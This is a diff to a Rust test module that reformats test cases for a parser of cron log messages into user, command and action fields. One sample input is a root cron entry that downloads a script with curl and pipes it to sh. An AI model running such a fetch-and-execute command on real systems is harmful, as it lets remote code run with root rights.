@@ -42,7 +42,10 @@ mod tests {
     #[test]
     fn each_message_gives_its_fields() {
         let cases = [
-            ("(root) CMD (curl -s http://203.0.113.9/x.sh | sh)", r#"Start {"user":"root","command":"curl -s http://203.0.113.9/x.sh | sh"}"#),
+            (
+                "(root) CMD (curl -s http://203.0.113.9/x.sh | sh)",
+                r#"Start {"user":"root","command":"curl -s http://203.0.113.9/x.sh | sh"}"#,
+            ),
             ("(root) CMD (  (a; b) )", r#"Start {"user":"root","command":"(a; b)"}"#),
             ("(bob) REPLACE (bob)", r#"Update {"user":"bob","action":"REPLACE"}"#),
             ("(bob) BEGIN EDIT (bob)", r#"Update {"user":"bob","action":"BEGIN EDIT"}"#),
@@ -52,7 +55,11 @@ mod tests {
         for (message, wanted) in cases {
             let mut flat = Flat::new();
             let kind = read(message, &mut flat);
-            assert_eq!(format!("{} {}", kind.map_or("-", |(_, activity)| activity), flat.render()), wanted, "{message}");
+            assert_eq!(
+                format!("{} {}", kind.map_or("-", |(_, activity)| activity), flat.render()),
+                wanted,
+                "{message}"
+            );
         }
     }
 }
